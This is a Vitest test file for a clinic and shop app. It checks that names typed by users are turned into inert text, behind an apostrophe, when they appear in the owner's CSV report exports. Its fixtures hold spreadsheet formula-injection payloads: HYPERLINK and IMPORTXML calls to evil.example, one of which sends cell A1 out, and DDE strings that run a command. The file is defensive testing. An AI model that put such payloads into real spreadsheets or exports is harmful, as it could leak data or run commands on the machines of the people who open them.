import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '../../src/modules/reports/table.js';
import { createTestApp, type TestApp, type TestUser } from '../helpers/app.js';

// Names customers and staff type (the orderer, the account, the patient, products, services,
// promotions) end up in the owner's CSV exports, which open in Excel or Sheets: a cell that starts
// a formula must arrive as text. "Now" is 2026-03-15 10:00 WIB.

let t: TestApp;
let owner: TestUser;
const wib = (s: string) => new Date(`${s}+07:00`);
const day = (s: string) => new Date(`${s}T00:00:00Z`);
const tod = (s: string) => new Date(`1970-01-01T${s}:00Z`);
const NAMES = {
  customer: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  doctor: "+cmd|' /C calc'!A0",
  service: "-2+3+cmd|' /C calc'!A0",
  patient: '@SUM(1+1)',
  menu: '=1+1',
  orderer: '=HYPERLINK("http://evil.example","x")',
  promotion: '=IMPORTXML("http://evil.example","//a")',
  promotionText: '@evil',
};

beforeAll(async () => {
  t = await createTestApp();
  t.app.now = () => wib('2026-03-15T10:00:00');
  owner = await t.user(['OWNER']);
  const db = t.app.db;
  const customer = await t.user(['CUSTOMER'], { users_fullname: NAMES.customer });
  const doctorUser = await t.user(['DOCTOR'], { users_fullname: NAMES.doctor });
  const service = await db.service.create({ data: { services_name: NAMES.service, buffer_time: 60 } });
  const doctor = await db.doctor.create({ data: { id_users: doctorUser.id, custom_price: 1000, id_services: service.id } });
  const patient = await db.patient.create({ data: { nama_lengkap_pasien: NAMES.patient, id_users: customer.id } });
  const menu = await db.menu.create({ data: { nama_menus: NAMES.menu, harga: 1000 } });
  const paid = { cart_open: null, id_member: customer.id, id_patients: patient.id, is_paid: 1, paid_date: wib('2026-03-01T10:00:00'), total_price: 1000, grand_totals: 1000 };
  await db.order.create({
    data: { ...paid, order_type: 'E', order_code: 'E-CSV-001', status: 'PAID', nama_pemesan: NAMES.orderer, items: { create: [{ id_menu: menu.id, qty: 1, price: 1000, price_total: 1000 }] } },
  });
  await db.order.create({ data: { ...paid, order_type: 'C', order_code: 'C-CSV-002', status: 'DONE', nama_pemesan: 'x', extras: { create: [{ id_doctors: doctor.id, extra_prices: 1000 }] } } });
  const link = await db.doctorService.create({ data: { id_doctors: doctor.id, id_services: service.id } });
  const slot = await db.doctorSchedule.create({
    data: { id_doctors: doctor.id, id_doctor_services: link.id, id_services: service.id, hari: 'Minggu', jam: tod('09:00'), jam_selesai: tod('10:00') },
  });
  for (const [tanggal, status] of [['2026-03-01', 'DONE'], ['2026-03-22', 'BOOKING']] as const) {
    await db.userSchedule.create({
      data: {
        id_doctors: doctor.id, id_services: service.id, id_doctor_schedules: slot.id, id_users: customer.id, id_patients: patient.id,
        hari: 'Minggu', tanggal: day(tanggal), jam: tod('09:00'), jam_selesai: tod('10:00'), status, active_slot: 1,
      },
    });
  }
  await db.promotion.create({
    data: { title: NAMES.promotion, description: NAMES.promotionText, type: 'PERSEN', value: 10, quota: 5, display_codes: 'EVIL', start_datetime: wib('2026-03-01T00:00:00'), expired_datetime: wib('2026-03-31T00:00:00') },
  });
});
afterAll(() => t.close());

/** The cells of an RFC 4180 body, as a spreadsheet reads them. */
function cells(csv: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') (cur += '"'), i++;
      else if (c === '"') quoted = false;
      else cur += c;
    } else if (c === '"') quoted = true;
    else if (c === ',' || c === '\n') out.push(cur), (cur = '');
    else if (c !== '\r') cur += c;
  }
  return out;
}

describe('CSV exports neutralise spreadsheet formulas', () => {
  const exports: [string, string[]][] = [
    ['/report/penjualan/overall', [NAMES.orderer]],
    ['/report/penjualan/products', [NAMES.menu]],
    ['/report/penjualan/online_consultations', [NAMES.doctor]],
    ['/report/offline/appoinment/performance', [NAMES.doctor, NAMES.service]],
    ['/dashboard/upcoming/offline_appoinments', [NAMES.customer, NAMES.patient, NAMES.service, NAMES.doctor]],
    ['/dashboard/upcoming/promotions', [NAMES.promotion, NAMES.promotionText]],
  ];
  for (const [path, names] of exports) {
    it(`${path}: each name arrives as text behind an apostrophe`, async () => {
      const res = await t.http.post(`${path}?format=csv`).set(t.auth(owner)).send({});
      expect(res.status).toBe(200);
      const all = cells(res.text);
      expect(all.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
      for (const name of names) expect(all).toContain(`'${name}`);
      // the JSON answer is the data as stored
      const json = await t.http.post(path).set(t.auth(owner)).send({});
      expect(json.body.data.flat()).toEqual(expect.arrayContaining(names));
    });
  }

  it('leaves numbers, signed amounts written as text and ordinary text alone', () => {
    expect(toCsv(['a', 'b', 'c', 'd', 'e'], [[-5000, '-5000', '+62812', 'Sari, "Dewi"', '2026-03-01']])).toBe('a,b,c,d,e\r\n-5000,-5000,+62812,"Sari, ""Dewi""",2026-03-01\r\n');
    expect(toCsv(['a'], [['\tx'], ['-'], ['@'], ['=A1,B1']])).toBe(`a\r\n'\tx\r\n'-\r\n'@\r\n"'=A1,B1"\r\n`);
  });
});
